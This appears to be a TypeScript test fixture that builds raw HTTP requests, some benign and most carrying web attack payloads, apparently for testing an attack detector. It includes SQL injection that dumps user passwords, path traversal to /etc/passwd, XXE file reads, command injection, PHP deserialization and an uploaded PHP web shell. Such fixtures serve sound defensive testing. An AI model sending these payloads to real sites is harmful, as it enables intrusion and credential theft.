import { httpRequest } from '../http-request.ts'

const form = (target: string, body: string): Buffer =>
  httpRequest('POST', target, body, { 'Content-Type': 'application/x-www-form-urlencoded' })
const UPLOAD = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.php"\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--\r\n'

/** A customer, and every class of attack. */
export default [
  Buffer.concat([httpRequest('GET', '/'), httpRequest('GET', '/index.php?id=4'), httpRequest('GET', '/search.php?q=rope')]),
  Buffer.concat([
    form('/cart.php', 'product=4'),
    form('/login.php', 'username=admin%27--+-&password=x'),
    form('/comment.php', 'product=1&author=a&comment=%3Cb%3E'),
  ]),
  httpRequest('GET', '/index.php?id=1%20UNION%20SELECT%201,username,password,4,5%20FROM%20users'),
  httpRequest('GET', "/category.php?cat=1'%20AND%20extractvalue(1,concat(0x7e,version()))--%20-"),
  httpRequest('GET', '/index.php?page=../../../../etc/passwd'),
  httpRequest('GET', '/index.php?page=php://filter/convert.base64-encode/resource=../config.php'),
  httpRequest('GET', '/?a=echo+md5(7);&p={{7*7}}&u=x%0d%0aX-A:1&c=%3Cscript%3E'),
  httpRequest('GET', '/?insert=O:1:%22A%22:1:{s:3:%22cmd%22;s:2:%22id%22;}'),
  httpRequest('GET', '/?x=%3Bid'),
  httpRequest('POST', '/api', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a><name>&x;</name></a>', {
    'Content-Type': 'text/xml',
  }),
  Buffer.concat([
    httpRequest('POST', '/upload.php', UPLOAD, { 'Content-Type': 'multipart/form-data; boundary=b' }),
    httpRequest('GET', '/uploads/a.php?c=id'),
  ]),
]
